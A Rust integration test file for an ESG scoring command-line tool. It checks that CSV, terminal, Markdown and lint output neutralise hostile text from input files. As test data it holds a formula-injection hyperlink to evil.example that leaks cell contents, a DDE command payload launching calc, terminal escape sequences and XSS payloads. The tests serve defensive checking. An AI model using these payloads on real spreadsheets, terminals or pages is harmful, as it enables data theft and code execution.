//! Hostile text from answers files, guidelines and file names comes out safe in every format: as
//! text (not a formula) in CSV, with control characters visible in a terminal, and escaped (never
//! HTML, a link, emphasis or code) in Markdown. JSON keeps the exact strings.

use std::path::{Path, PathBuf};

use assert_cmd::Command;
use pulldown_cmark::{Event, Options, Parser, Tag, TagEnd};

use crate::common::{MINI, esg, root};

/// A firm name that Excel and LibreOffice would run as a formula.
const HYPERLINK: &str = r#"=HYPERLINK("http://evil.example/?x="&A1,"click")"#;

/// A firm name with a screen-clearing sequence, an OSC 8 link, a C1 CSI, a bidi override and a
/// line break.
const TERMINAL: &str = "Evil\u{1b}[2J\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}\u{9b}31m\u{202e}Ltd\nsecond line";

/// Markdown and HTML that must stay text.
const MARKDOWN: &str = "<script>alert('name')</script> **bold** `code` [click](javascript:alert(1)) \
    <img src=x onerror=alert(2)> a\\|b _u_ ~~s~~ # {onclick=alert(3)} &lt;b&gt; ![i](x.png) \
    <https://evil.example> <javascript:alert(4)> [^note]\nsecond line";

/// A TOML string holding `s` exactly.
fn toml_str(s: &str) -> String {
    toml::Value::String(s.to_owned()).to_string()
}

/// An answers file for the test guideline (the worked example's answers) with hostile text in
/// the firm's name and in the not-applicable reason, evidence and note of `water`.
fn answers(name: &str, other: &str) -> String {
    format!(
        "[guideline]\nid = \"mini\"\nversion = \"1.0.0\"\n\n[firm]\nname = {}\n\n[answers]\n\
         has_board = false\ntargets = \"short\"\nenv_checks = [\"a\", \"b\", \"c\"]\npolicy = true\n\
         turnover = 15\nrevenue = {{ 2022 = 10, 2023 = 10, 2024 = 10 }}\n\n[answers.water]\n\
         not_applicable = {}\nevidence = [{}, \"plain.pdf\"]\nnote = {}\n",
        toml_str(name),
        toml_str(other),
        toml_str(other),
        toml_str(other)
    )
}

fn write(dir: &Path, name: &str, text: &str) -> PathBuf {
    let path = dir.join(name);
    std::fs::write(&path, text).unwrap();
    path
}

fn mini() -> PathBuf {
    root().join(MINI)
}

/// Runs `cmd`, returning stdout and stderr.
fn run(cmd: &mut Command) -> (String, String) {
    let out = cmd.output().unwrap();
    (
        String::from_utf8(out.stdout).unwrap(),
        String::from_utf8(out.stderr).unwrap(),
    )
}

// ---------------------------------------------------------------------------------------------
// CSV

/// Columns that hold numbers (or nothing) in each CSV the tool writes.
const NUMBER_COLUMNS: &[&str] = &[
    "gap_rank",
    "value",
    "level",
    "levels",
    "points",
    "max_points",
    "score",
    "gain",
    "total",
    "percentile",
    "completeness_pct",
    "scope1_tco2e",
    "scope2_location_tco2e",
    "scope2_market_tco2e",
    "ghg_intensity",
    "top_gap_gain",
    "error_line",
    "error_column",
    "count",
    "mean",
    "min",
    "q1",
    "median",
    "q3",
    "max",
];

/// Parses a CSV and checks every cell: number columns hold numbers, and no text cell starts with
/// a character that makes a spreadsheet read it as a formula. Returns the records by header.
fn check_csv(bytes: &[u8]) -> Vec<Vec<(String, String)>> {
    let bytes = bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap_or(bytes);
    let mut r = csv::Reader::from_reader(bytes);
    let head = r.headers().unwrap().clone();
    let mut rows = Vec::new();
    for rec in r.records() {
        let rec = rec.unwrap();
        assert_eq!(rec.len(), head.len(), "{rec:?}");
        let mut row = Vec::new();
        for (h, cell) in head.iter().zip(rec.iter()) {
            let number = NUMBER_COLUMNS.contains(&h) || h.starts_with("area_");
            if number {
                assert!(
                    cell.is_empty() || cell.parse::<f64>().is_ok(),
                    "{h} = {cell:?} is not a number"
                );
            } else {
                assert!(
                    !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                    "text cell {h} = {cell:?} would be read as a formula"
                );
            }
            row.push((h.to_owned(), cell.to_owned()));
        }
        rows.push(row);
    }
    rows
}

fn cell<'a>(row: &'a [(String, String)], name: &str) -> &'a str {
    &row.iter().find(|(h, _)| h == name).unwrap().1
}

/// A copy of the test guideline in which every English text starts with `=1+` and every Korean
/// one with `@`, so that titles, level texts and recommendations are all formula-like.
fn hostile_guideline(dir: &Path) -> PathBuf {
    let text = std::fs::read_to_string(mini().join("guideline.toml")).unwrap();
    let text = text
        .replace("en = \"", "en = \"=1+")
        .replace("ko = \"", "ko = \"@");
    let pkg = dir.join("hostile-guideline");
    std::fs::create_dir_all(&pkg).unwrap();
    write(&pkg, "guideline.toml", &text);
    pkg
}

#[test]
fn a_firms_csv_report_keeps_guideline_text_from_running_as_formulas() {
    let dir = tempfile::tempdir().unwrap();
    let g = hostile_guideline(dir.path());
    let file = write(dir.path(), "a.toml", &answers(HYPERLINK, "-1+2"));
    let out = esg()
        .args(["score", "--format", "csv", "--lang", "en", "--guideline"])
        .arg(&g)
        .arg(&file)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let rows = check_csv(&out.stdout);
    let indicators: Vec<_> = rows
        .iter()
        .filter(|r| cell(r, "section") == "indicator")
        .collect();
    assert_eq!(indicators.len(), 6);
    for row in rows.iter().filter(|r| !cell(r, "title").is_empty()) {
        let title = cell(row, "title");
        assert!(title.starts_with("'=1+"), "{title}");
    }
    let e1 = indicators.iter().find(|r| cell(r, "id") == "E-1").unwrap();
    assert_eq!(cell(e1, "points"), "1");
    assert_eq!(cell(e1, "level"), "2");
}

#[test]
fn portfolio_csv_neutralises_names_files_titles_and_errors_and_keeps_numbers() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let g = hostile_guideline(d);
    let names = [
        ("=1+1.toml", HYPERLINK),
        ("+a.toml", "+1"),
        ("-b.toml", "-2"),
        ("@c.toml", "@SUM(A1:A9)"),
        ("d.toml", "\tTabbed"),
        ("e.toml", "\rReturn"),
    ];
    for (file, firm) in names {
        write(d, file, &answers(firm, "reason"));
    }
    // An error row whose message starts with text of the file (a TOML error quoting it).
    write(d, "=err.toml", "=cmd|' /C calc'!A0\n");
    let mut files: Vec<&str> = names.iter().map(|(f, _)| *f).collect();
    files.push("=err.toml");
    let out = esg()
        .current_dir(d)
        .args(["score", "--format", "csv", "--lang", "en", "--guideline"])
        .arg(&g)
        .arg("--")
        .args(&files)
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(1), "{out:?}");
    let rows = check_csv(&out.stdout);
    assert_eq!(rows.len(), files.len());
    for ((file, firm), row) in names.iter().zip(&rows) {
        assert_eq!(cell(row, "status"), "ok");
        // The exact text follows the quote; a carriage return, which would also move a terminal's
        // cursor, is shown as a symbol instead.
        if firm.starts_with('\r') {
            assert_eq!(cell(row, "firm"), firm.replace('\r', "␍"));
        } else {
            assert_eq!(cell(row, "firm"), format!("'{firm}"));
        }
        let shown_file = cell(row, "file");
        if file.starts_with(['=', '+', '-', '@']) {
            assert_eq!(shown_file, format!("'{file}"));
        } else {
            assert_eq!(shown_file, *file);
        }
        assert!(cell(row, "top_gap_title").starts_with("'=1+"), "{row:?}");
        let total: f64 = cell(row, "total").parse().unwrap();
        assert!((0.0..=100.0).contains(&total));
    }
    let err = rows.last().unwrap();
    assert_eq!(cell(err, "status"), "error");
    assert_eq!(cell(err, "file"), "'=err.toml");
    assert_eq!(cell(err, "error_line"), "1");

    // The statistics of a portfolio written to a directory, with the guideline's grade and area
    // titles.
    let out_dir = d.join("out");
    let status = esg()
        .current_dir(d)
        .args(["score", "--format", "csv", "--lang", "en", "--guideline"])
        .arg(&g)
        .arg("-o")
        .arg(&out_dir)
        .arg("--")
        .args(&files)
        .output()
        .unwrap()
        .status;
    assert_eq!(status.code(), Some(1));
    check_csv(&std::fs::read(out_dir.join("summary.csv")).unwrap());
    let stats = check_csv(&std::fs::read(out_dir.join("statistics.csv")).unwrap());
    let area = stats.iter().find(|r| cell(r, "measure") == "area").unwrap();
    assert!(cell(area, "title").starts_with("'=1+"), "{area:?}");
    let grade = stats
        .iter()
        .find(|r| cell(r, "measure") == "grade")
        .unwrap();
    assert!(cell(grade, "title").starts_with("'=1+"), "{grade:?}");
    let failed = stats
        .iter()
        .find(|r| cell(r, "measure") == "failed")
        .unwrap();
    assert_eq!(cell(failed, "count"), "1");
}

// ---------------------------------------------------------------------------------------------
// Terminals

/// The cells of the first table of an HTML page that LibreOffice wrote, as (text, whether it
/// holds a computed number).
fn html_cells(html: &str) -> Vec<(String, bool)> {
    html.split("<td")
        .skip(1)
        .map(|cell| {
            let (attrs, rest) = cell.split_once('>').unwrap_or((cell, ""));
            let text = rest.split("</td>").next().unwrap_or("");
            let text = text
                .replace("&quot;", "\"")
                .replace("&lt;", "<")
                .replace("&gt;", ">")
                .replace("&amp;", "&");
            (text, attrs.contains("sdval="))
        })
        .collect()
}

/// Opens a CSV in LibreOffice (headless, a profile of its own) and returns it as HTML.
fn open_in_libreoffice(dir: &Path, csv: &Path) -> String {
    let profile = dir.join("lo-profile");
    let out = std::process::Command::new("soffice")
        .arg(format!(
            "-env:UserInstallation=file://{}",
            profile.display()
        ))
        .args(["--headless", "--convert-to", "html", "--outdir"])
        .arg(dir)
        .arg(csv)
        .output()
        .expect("soffice runs");
    assert!(out.status.success(), "{out:?}");
    let html = csv.with_extension("html");
    let html = dir.join(html.file_name().unwrap());
    std::fs::read_to_string(html).unwrap()
}

/// The CSV opened where the attack would happen: LibreOffice runs `=1+1` from a plain CSV (the
/// test checks that first, so that it can tell), and runs nothing from the CSV `esg` writes.
#[test]
#[allow(clippy::print_stderr)]
fn a_spreadsheet_opening_the_csv_runs_no_formula() {
    if std::process::Command::new("soffice")
        .arg("--version")
        .output()
        .is_err()
    {
        eprintln!("LibreOffice (soffice) is not installed: the spreadsheet test is skipped");
        return;
    }
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let raw = write(d, "raw.csv", "firm\n=1+1\n");
    let cells = html_cells(&open_in_libreoffice(d, &raw));
    assert!(
        cells.iter().any(|(t, computed)| t == "2" && *computed),
        "LibreOffice computes a formula from a plain CSV: {cells:?}"
    );

    let g = mini();
    let names = ["=1+1", HYPERLINK, "@SUM(1,2)", "+3-1", "-2+5"];
    let files: Vec<String> = names
        .iter()
        .enumerate()
        .map(|(i, name)| {
            let file = format!("f{i}.toml");
            write(d, &file, &answers(name, "reason"));
            file
        })
        .collect();
    let out = esg()
        .current_dir(d)
        .args([
            "score",
            "--format",
            "csv",
            "--lang",
            "en",
            "-o",
            "out",
            "--guideline",
        ])
        .arg(&g)
        .args(&files)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let html = open_in_libreoffice(d, &d.join("out/summary.csv"));
    assert!(!html.contains("<a "), "a link was made: {html}");
    let cells = html_cells(&html);
    for name in names {
        let cell = cells
            .iter()
            .find(|(t, _)| t.ends_with(name))
            .unwrap_or_else(|| panic!("{name} is shown as text: {cells:?}"));
        assert!(!cell.1, "{name} was computed: {cell:?}");
    }
}

/// Whether `s` holds no control character but line breaks, and no bidi override.
fn terminal_safe(s: &str) -> bool {
    s.chars().all(|c| {
        (!c.is_control() || c == '\n')
            && !matches!(c, '\u{202a}'..='\u{202e}' | '\u{2066}'..='\u{2069}')
    })
}

fn assert_terminal_safe(what: &str, s: &str) {
    let bad: Vec<_> = s
        .char_indices()
        .filter(|(_, c)| !terminal_safe(&c.to_string()))
        .take(3)
        .collect();
    assert!(
        bad.is_empty(),
        "{what} holds raw control characters {bad:?}:\n{s}"
    );
}

#[test]
fn the_terminal_report_shows_control_characters_and_keeps_a_name_on_one_line() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "a.toml", &answers(TERMINAL, TERMINAL));
    for extra in [&[][..], &["--detail"][..]] {
        let (out, err) = run(esg()
            .args(["score", "--lang", "en", "--guideline"])
            .arg(mini())
            .arg(&file)
            .args(extra)
            .env("COLUMNS", "400"));
        assert_terminal_safe("the report", &out);
        assert_terminal_safe("stderr", &err);
        let first = out.lines().next().unwrap();
        assert_eq!(
            first,
            "Evil␛[2J␛]8;;http://evil.example␇click␛]8;;␇<U+009B>31m<U+202E>Ltd␊second line"
        );
        // The not-applicable reason, in the list of what is not applicable, on one line.
        if extra.is_empty() {
            assert!(
                out.lines().any(
                    |l| l.contains("as not applicable: Evil␛[2J") && l.contains("␊second line")
                ),
                "{out}"
            );
        }
    }
}

#[test]
fn the_portfolio_table_cuts_names_without_leaving_a_sequence_open() {
    let dir = tempfile::tempdir().unwrap();
    let long = format!("{}{}", "x".repeat(30), TERMINAL);
    for (i, name) in [TERMINAL, long.as_str(), "\u{1b}[31mred\nrow"]
        .iter()
        .enumerate()
    {
        write(
            dir.path(),
            &format!("f{i}\u{1b}[2J.toml"),
            &answers(name, "r"),
        );
    }
    for format in ["table", "markdown"] {
        // Wide enough for whole file names: names are cut at their end.
        let (out, err) = run(esg()
            .args(["score", "--lang", "en", "--format", format, "--guideline"])
            .arg(mini())
            .arg(dir.path())
            .env("COLUMNS", "400"));
        assert_terminal_safe("the summary", &out);
        assert_terminal_safe("stderr", &err);
        // One line per file, whatever the names hold.
        let rows = out.lines().filter(|l| l.contains("2J.toml")).count();
        assert_eq!(rows, 3, "{out}");
    }
}

/// An answers file whose unknown keys and values hold escape sequences.
fn hostile_keys() -> String {
    "[guideline]\nid = \"mini\"\nversion = \"1.0.0\"\n\n[firm]\nname = \"A\"\n\n[answers]\n\
     \"\\u001b[2Jwipe\" = 1\n\"new\\nline\" = 2\ntargets = \"\\u001b]8;;http://evil.example\\u0007x\"\n"
        .to_owned()
}

#[test]
fn error_messages_show_keys_values_and_file_names_visibly() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "bad\u{1b}[31m\n.toml", &hostile_keys());
    let (out, err) = run(esg()
        .args(["score", "--lang", "en", "--guideline"])
        .arg(mini())
        .arg(&file));
    assert!(out.is_empty());
    assert_terminal_safe("stderr", &err);
    assert!(err.contains("bad␛[31m␊.toml:9:1:"), "{err}");
    assert!(err.contains("unknown question `␛[2Jwipe`"), "{err}");
    assert!(err.contains("unknown question `new␊line`"), "{err}");
    assert!(
        err.contains("`␛]8;;http://evil.example␇x` is not an option"),
        "{err}"
    );
    assert!(err.contains("3 errors"), "{err}");

    // A file that cannot be read, named with an escape sequence.
    let (_, err) = run(esg()
        .args(["score", "--lang", "en", "--guideline"])
        .arg(mini())
        .arg(dir.path().join("gone\u{1b}[2J.toml")));
    assert_terminal_safe("stderr", &err);
    assert!(err.contains("gone␛[2J.toml"), "{err}");

    // A warning (another version of the guideline) names the file.
    let text = answers("A", "r").replace("1.0.0", "0.9");
    let file = write(dir.path(), "warn\u{1b}[2J.toml", &text);
    let (_, err) = run(esg()
        .args(["score", "--lang", "en", "--guideline"])
        .arg(mini())
        .arg(&file));
    assert_terminal_safe("stderr", &err);
    assert!(err.contains("warn␛[2J.toml:3:"), "{err}");
}

#[test]
fn lint_formats_show_or_escape_control_characters() {
    let dir = tempfile::tempdir().unwrap();
    let file = write(dir.path(), "bad.toml", &hostile_keys());
    let lint = |format: &str| {
        run(esg()
            .args(["lint", "--lang", "en", "--format", format, "--guideline"])
            .arg(mini())
            .arg(&file))
        .0
    };
    let human = lint("human");
    assert_terminal_safe("lint", &human);
    assert!(human.contains("␛[2Jwipe"), "{human}");

    let github = lint("github");
    assert_terminal_safe("lint --format github", &github);
    for line in github.lines().filter(|l| l.starts_with("::")) {
        assert!(
            line.starts_with("::error ") || line.starts_with("::warning "),
            "{line}"
        );
    }
    // Three findings, each one command on one line; a line break of ours is %0A.
    assert_eq!(github.lines().filter(|l| l.starts_with("::")).count(), 3);
    assert!(github.contains("new␊line"), "{github}");
    assert!(github.contains("%0Ahelp: "), "{github}");

    // JSON formats keep the exact text, escaped by JSON.
    let json: serde_json::Value = serde_json::from_str(&lint("json")).unwrap();
    let messages: Vec<&str> = json["diagnostics"]
        .as_array()
        .unwrap()
        .iter()
        .map(|d| d["message"].as_str().unwrap())
        .collect();
    assert!(
        messages.iter().any(|m| m.contains("`\u{1b}[2Jwipe`")),
        "{messages:?}"
    );
    let sarif: serde_json::Value = serde_json::from_str(&lint("sarif")).unwrap();
    let text = sarif["runs"][0]["results"][0]["message"]["text"]
        .as_str()
        .unwrap();
    assert!(text.contains('\u{1b}'), "{text}");
}

// ---------------------------------------------------------------------------------------------
// Markdown

/// Checks a Markdown report with a CommonMark parser (with the GFM extensions): the only HTML is
/// our `<br>`; there is no link, image, emphasis, strikethrough, footnote or heading attribute;
/// code spans hold only plain ids; every table row has as many cells as its header. Returns the
/// text as a reader sees it (a `<br>` as a line break), in which the callers find the hostile
/// text as written: had `**` or a backtick in it made markup, it would be missing there.
fn check_markdown(md: &str) -> String {
    let options = Options::ENABLE_TABLES
        | Options::ENABLE_STRIKETHROUGH
        | Options::ENABLE_FOOTNOTES
        | Options::ENABLE_TASKLISTS
        | Options::ENABLE_HEADING_ATTRIBUTES
        | Options::ENABLE_GFM
        | Options::ENABLE_DEFINITION_LIST
        | Options::ENABLE_SUPERSCRIPT
        | Options::ENABLE_SUBSCRIPT;
    let mut text = String::new();
    let mut header_cells = None;
    let mut cells = 0;
    for event in Parser::new_ext(md, options) {
        match &event {
            Event::Html(h) | Event::InlineHtml(h) => {
                assert_eq!(h.trim(), "<br>", "raw HTML in the report:\n{md}");
                text.push('\n');
            }
            Event::Start(Tag::Link { .. } | Tag::Image { .. }) => {
                panic!("a link in the report: {event:?}\n{md}")
            }
            Event::Start(
                Tag::Emphasis
                | Tag::Strikethrough
                | Tag::Superscript
                | Tag::Subscript
                | Tag::FootnoteDefinition(_)
                | Tag::BlockQuote(_)
                | Tag::CodeBlock(_)
                | Tag::HtmlBlock,
            )
            | Event::FootnoteReference(_)
            | Event::TaskListMarker(_) => panic!("markup from text: {event:?}\n{md}"),
            Event::Start(Tag::Heading {
                id, classes, attrs, ..
            }) => {
                assert!(
                    id.is_none() && classes.is_empty() && attrs.is_empty(),
                    "heading attributes: {event:?}"
                );
            }
            Event::Code(c) => {
                assert!(
                    c.chars()
                        .all(|c| c.is_ascii_alphanumeric() || matches!(c, '_' | '-' | '.')),
                    "a code span from text: {c:?}\n{md}"
                );
                text.push_str(c);
            }
            Event::Text(t) => text.push_str(t),
            Event::SoftBreak | Event::HardBreak => text.push('\n'),
            Event::Start(Tag::TableRow | Tag::TableHead) => cells = 0,
            Event::Start(Tag::TableCell) => cells += 1,
            Event::End(TagEnd::TableHead) => header_cells = Some(cells),
            Event::End(TagEnd::TableRow) => {
                assert_eq!(
                    Some(cells),
                    header_cells,
                    "a row with a wrong number of cells"
                )
            }
            Event::End(TagEnd::Table) => header_cells = None,
            _ => {}
        }
    }
    text
}

#[test]
fn markdown_reports_keep_html_links_and_markup_from_files_as_text() {
    let dir = tempfile::tempdir().unwrap();
    let reason = "<img src=x onerror=alert('reason')> [r](javascript:alert(5)) `r` **r** \\|";
    let file = write(dir.path(), "a.toml", &answers(MARKDOWN, reason));
    for extra in [&[][..], &["--detail"][..]] {
        let (md, _) = run(esg()
            .args([
                "score",
                "--lang",
                "en",
                "--format",
                "markdown",
                "--guideline",
            ])
            .arg(mini())
            .arg(&file)
            .args(extra));
        let text = check_markdown(&md);
        // What a reader sees is the text as written.
        assert!(text.contains(MARKDOWN), "{text}");
        assert!(text.contains(reason), "{text}");
    }
    // A portfolio's Markdown summary, with the error row of a file whose keys are hostile.
    write(
        dir.path(),
        "b.toml",
        &format!(
            "[guideline]\nid = \"mini\"\n\n[firm]\nname = \"B\"\n\n[answers]\n{} = 1\n",
            toml_str("<script>x</script>|`y`")
        ),
    );
    let (md, _) = run(esg()
        .args([
            "score",
            "--lang",
            "en",
            "--format",
            "markdown",
            "--guideline",
        ])
        .arg(mini())
        .arg(dir.path()));
    let text = check_markdown(&md);
    assert!(
        text.contains("<script>alert('name')</script> **bold**"),
        "{text}"
    );
    assert!(
        text.contains("unknown question `<script>x</script>|`y``"),
        "{text}"
    );
}
